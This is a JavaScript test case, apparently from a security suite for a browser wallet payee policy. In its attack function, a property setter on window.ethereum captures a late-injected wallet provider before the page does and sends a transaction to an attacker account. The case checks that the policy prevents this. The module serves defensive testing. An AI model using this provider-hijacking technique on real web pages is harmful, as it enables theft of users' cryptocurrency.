// G18: a setter waits on window.ethereum and takes the wallet as it arrives, before the page sees it.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G18',
  title: 'late wallet caught by a setter',
  source: 'late injection',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    let held;
    const taken = new Promise((resolve) => {
      try {
        Object.defineProperty(window, 'ethereum', {
          configurable: true,
          get: () => held,
          set(provider) {
            held = provider;
            resolve(provider);
          },
        });
      } catch {
        resolve(undefined);
      }
    });
    const initialised = new Promise((resolve) =>
      window.addEventListener('ethereum#initialized', () => resolve(window.ethereum), { once: true }),
    );
    const provider = await Promise.race([taken.then((value) => value ?? initialised), initialised]);
    return provider
      .request({ method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] })
      .catch((error) => error.code);
  },

  async action(a) {
    if (!window.ethereum)
      await new Promise((resolve) => addEventListener('ethereum#initialized', resolve, { once: true }));
    const tx = { from: a.USER, to: a.GOOD, value: '0x5' };
    return window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] });
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
  page: { wallet: 'late' },
};
